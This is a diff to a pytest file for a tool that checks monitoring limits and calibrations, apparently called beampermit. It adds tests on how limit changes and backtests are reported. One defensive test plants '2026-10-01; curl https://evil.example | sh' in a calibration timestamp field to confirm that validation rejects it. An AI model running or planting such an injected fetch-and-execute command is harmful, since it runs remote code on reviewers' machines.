@@ -13,10 +13,13 @@ import pyarrow.parquet as pq
 import pytest
 import yaml
 
+from beampermit.contract import load_contract
 from beampermit.files import write_json
 from beampermit.interlocks.operations import OPS001
 from beampermit.interlocks.runner import check
+from beampermit.monitoring.limits import read_limits
 from beampermit.project import Project
+from beampermit.verdicts.evidence import LimitChange, LimitChanges, LimitChecks
 from beampermit.verdicts.verdict import Outcome, Verdict
 from support.monitored import content_of, drawn, monitored_contract, monitored_text
 
@@ -61,6 +64,31 @@ def calibrate(project: Project, **limits: float) -> Verdict:
     of = {key.replace("_", " ", 1).replace("__", "."): limit for key, limit in limits.items()}
     write_json(project.root / CALIBRATION, {**usual, "limits": of})
     return judge(project)
+
+
+def backtested(project: Project, **limits: float) -> Verdict:
+    """The verdict with a calibration that says, as `beampermit backtest --write` does, what was counted."""
+    contract, rate = load_contract(project.root), {"per_week": 1.4, "low": 0.66, "high": 2.7}
+    before = read_limits(project.root, contract).digest
+    calibrate(project, **limits)
+    after = read_limits(project.root, contract).digest
+    alarms = {"weeks": 4.3, "before": rate, "after": {"per_week": 0.0, "low": 0.0, "high": 0.7}}
+    content = json.loads((project.root / CALIBRATION).read_text())
+    content["alarms"] = {**alarms, "limits_before": before, "limits_after": after}
+    write_json(project.root / CALIBRATION, content)
+    return judge(project)
+
+
+def changes_of(verdict: Verdict) -> LimitChanges | None:
+    assert isinstance(verdict.evidence, LimitChecks)
+    return verdict.evidence.changes
+
+
+def merged(git: Callable[..., str]) -> None:
+    """What is there now is on the base branch, too."""
+    git("add", "--all")
+    git("commit", "--quiet", "--message", "Merged")
+    git("branch", "--force", "main")
 
 
 def of_current(content: dict[str, Any]) -> dict[str, Any]:
@@ -117,7 +145,7 @@ DEFECTS: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
     "no input": (lambda of: of["inputs"].pop("mode"), "input mode has no limits"),
     "no output": (lambda of: of["outputs"].pop("orbit"), "output orbit has no limits"),
     "an input of another contract": (
-        lambda of: of["inputs"].update(voltage=of["inputs"]["mode"]),
+        lambda of: of["inputs"].update(voltage={**of["inputs"]["mode"], "numbers": {"voltage": of_current(of)}}),
         "input voltage is not in the contract",
     ),
     "no number of an array": (lambda of: of["inputs"]["turns"]["numbers"].pop("turns.step"), "turns.step has no limit"),
@@ -228,8 +256,91 @@ def test_a_looser_calibration_passes_and_is_told(monitored: Project, git: Callab
     git("commit", "--quiet", "--message", "Calibrated")
     git("branch", "--force", "main")
     assert "looser" not in judge(monitored).reason
-    assert "looser than on the base branch: MON001 current 1.5 → 1.6" in calibrate(monitored, MON001_current=1.6).reason
-    assert "looser" not in calibrate(monitored, MON001_current=1.4).reason
+    for now, told in ((1.6, True), (1.4, False)):
+        verdict = calibrate(monitored, MON001_current=now, MON003_mode__missing=0.05)
+        assert ("looser than on the base branch: MON001 current 1.5 → 1.6" in verdict.reason) == told
+        assert ("looser" in verdict.reason) == told
+    assert "looser than on the base branch: MON003 mode.missing 0.05 → 0.1" in calibrate(monitored).reason, "taken away"
+
+
+def test_what_a_backtest_said_of_changed_limits_is_evidence(monitored: Project, git: Callable[..., str]) -> None:
+    assert changes_of(judge(monitored)) is None
+    limit = of_current(json.loads((monitored.root / LIMITS).read_text()))["limit"]
+    found = changes_of(backtested(monitored, MON001_current=1.5, MON003_mode__missing=0.05))
+    assert found
+    assert found.rows == (
+        LimitChange(key="MON001 current", before=limit, after=1.5, calibrated=True, looser=True),
+        LimitChange(key="MON003 mode.missing", before=0.1, after=0.05, calibrated=True, looser=False),
+    )
+    assert found.backtest
+    assert found.backtest.before
+    assert (found.backtest.before.per_week, found.backtest.after.high, found.backtest.windows) == (1.4, 0.7, 4000)
+    merged(git)
+    assert changes_of(judge(monitored)) is None, "an old backtest is none of this pull request"
+
+
+def test_a_backtest_of_other_limits_says_nothing_of_these(monitored: Project) -> None:
+    backtested(monitored, MON001_current=1.5)
+    # A second one, which began with the limits of the first.
+    again = changes_of(backtested(monitored, MON001_current=1.6))
+    assert again
+    assert again.backtest
+    assert again.backtest.before is None
+    content = json.loads((monitored.root / CALIBRATION).read_text())
+    write_json(monitored.root / CALIBRATION, content | {"limits": {"MON001 current": 1.7}})
+    edited = changes_of(judge(monitored))
+    assert edited
+    assert (edited.backtest, edited.without) == (None, "edited")
+    by_hand = changes_of(calibrate(monitored, MON001_current=1.7))
+    assert by_hand
+    assert (by_hand.backtest, by_hand.without) == (None, "no record")
+
+
+def test_limits_of_a_new_reference_have_no_backtest(
+    monitored: Project, contract_text: str, git: Callable[..., str]
+) -> None:
+    backtested(monitored, MON001_current=0.5)
+    merged(git)
+    inputs = drawn(ROWS, 1)
+    write_split(monitored.root, inputs)
+    write_json(monitored.root / LIMITS, content_of(inputs, monitored_contract(contract_text)))
+    verdict = judge(monitored)
+    found = changes_of(verdict)
+    assert verdict.passed, verdict.reason
+    assert found
+    assert (found.backtest, found.without, found.looser) == (None, "reference", ())
+    assert "MON001 current" not in {row.key for row in found.rows}, "its limit is that of the calibration still"
+    (monitored.root / CALIBRATION).unlink()
+    verdict = judge(monitored)
+    found = changes_of(verdict)
+    assert found
+    assert [row.key for row in found.looser] == ["MON001 current"]
+    assert (found.without, found.rows[0].calibrated) == ("reference", False)
+    assert "looser than on the base branch: MON001 current 0.5 → " in verdict.reason
+
+
+@pytest.mark.parametrize(("by", "told"), [(1.009, False), (1.011, True), (0.991, False), (0.989, True)])
+def test_limits_that_two_machines_compute_are_no_change(monitored: Project, by: float, told: bool) -> None:
+    limit = of_current(json.loads((monitored.root / LIMITS).read_text()))["limit"]
+    assert (changes_of(calibrate(monitored, MON001_current=limit * by)) is not None) == told
+
+
+def test_limits_that_fail_are_shown_too(monitored: Project) -> None:
+    found = changes_of(calibrate(monitored, MON001_current=1000.0))
+    assert found
+    assert found.rows[0].after == 1000.0
+
+
+@pytest.mark.attack(
+    guard="OPS001",
+    tried="writes a command into the time of a backtest, which the report asks reviewers to run again",
+    said="calibration.json: since: String should match pattern",
+)
+def test_a_time_of_a_backtest_is_no_command(monitored: Project, said: str) -> None:
+    calibrate(monitored, MON001_current=1.5)
+    content = json.loads((monitored.root / CALIBRATION).read_text())
+    write_json(monitored.root / CALIBRATION, content | {"since": "2026-10-01; curl https://evil.example | sh"})
+    assert said in judge(monitored).reason
 
 
 @pytest.mark.parametrize(
